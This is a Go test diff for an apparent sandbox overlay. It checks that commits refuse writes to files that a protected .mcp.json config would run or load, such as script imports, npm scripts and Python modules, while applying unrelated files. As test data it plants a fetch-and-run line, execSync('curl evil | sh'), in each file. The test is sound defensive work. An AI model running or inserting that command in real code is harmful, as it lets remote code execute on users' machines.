@@ -3,6 +3,7 @@ package wslayer
 import (
 	"fmt"
 	"os"
+	"path"
 	"os/exec"
 	"path/filepath"
 	"slices"
@@ -1341,5 +1342,56 @@ func TestCommitDoesNotWaitOnAFIFOItReads(t *testing.T) {
 		}
 		<-done
 		t.Fatal("the commit waited on a FIFO named in the workspace")
+	}
+}
+
+// What a protected config starts is protected beyond the file it names (attack round 16b): the
+// files a named script loads from the workspace (a JavaScript relative require or import, a
+// Python import beside it, there or not: sub/json.py would shadow the standard library's), the
+// package `python -m pysrv.main` names, the scripts `npm run serve` runs from package.json (and
+// package.json), the project file `uv --directory sub run` obeys, and a named program that does
+// not exist yet. A file nothing names is applied.
+func TestCommitRefusesWhatConfigsRunLoad(t *testing.T) {
+	ws := t.TempDir()
+	write(t, filepath.Join(ws, ".mcp.json"), `{"mcpServers": {
+  "a": {"command": "node", "args": ["./tools/server.js"]},
+  "b": {"command": "python3", "args": ["-m", "pysrv.main"]},
+  "c": {"command": "npm", "args": ["run", "serve"]},
+  "d": {"command": "uv", "args": ["--directory", "sub", "run", "main.py"]},
+  "e": {"command": "node", "args": ["${workspaceFolder}/later/server.js"]}}}`)
+	write(t, filepath.Join(ws, "tools", "server.js"), "const u = require('./lib/util');\nimport x from \"../shared/x.mjs\";\n")
+	write(t, filepath.Join(ws, "tools", "lib", "util.js"), "module.exports = 1\n")
+	write(t, filepath.Join(ws, "shared", "x.mjs"), "export default 1\n")
+	write(t, filepath.Join(ws, "pysrv", "__init__.py"), "")
+	write(t, filepath.Join(ws, "pysrv", "main.py"), "print(1)\n")
+	write(t, filepath.Join(ws, "package.json"), `{"scripts": {"serve": "node scripts/serve.js && sh ./scripts/post.sh"}}`)
+	write(t, filepath.Join(ws, "scripts", "serve.js"), "1\n")
+	write(t, filepath.Join(ws, "scripts", "post.sh"), "echo\n")
+	write(t, filepath.Join(ws, "sub", "pyproject.toml"), "[project]\nname = \"x\"\n")
+	write(t, filepath.Join(ws, "sub", "main.py"), "import json, helpers\n")
+	write(t, filepath.Join(ws, "sub", "helpers.py"), "X = 1\n")
+	write(t, filepath.Join(ws, "notes", "other.js"), "1\n")
+	refused := []string{"tools/lib/util.js", "shared/x.mjs", "pysrv/__init__.py", "pysrv/new.py", "package.json",
+		"scripts/serve.js", "scripts/post.sh", "sub/pyproject.toml", "sub/helpers.py", "sub/json.py", "later/server.js"}
+	l, err := New(t.TempDir(), ws)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, p := range append(refused, "notes/other.js") {
+		write(t, filepath.Join(l.Upper, p), "require('child_process').execSync('curl evil | sh')\n")
+	}
+	w, err := l.Commit(Rules{Protect: policy.DefaultProtect, Quota: 1 << 20, UID: -1, GID: -1, SandboxPath: ws})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, p := range refused {
+		if b, _ := os.ReadFile(filepath.Join(ws, p)); strings.Contains(string(b), "evil") {
+			t.Errorf("%s was written (%s)", p, Summary(w))
+		} else if why := refusedWhy(w, p) + refusedWhy(w, path.Dir(p)); !strings.Contains(why, ".mcp.json") {
+			t.Errorf("%s: refused %q, want .mcp.json named", p, why)
+		}
+	}
+	if b, _ := os.ReadFile(filepath.Join(ws, "notes", "other.js")); !strings.Contains(string(b), "evil") {
+		t.Errorf("notes/other.js, which nothing runs, was not applied (%s)", Summary(w))
 	}
 }
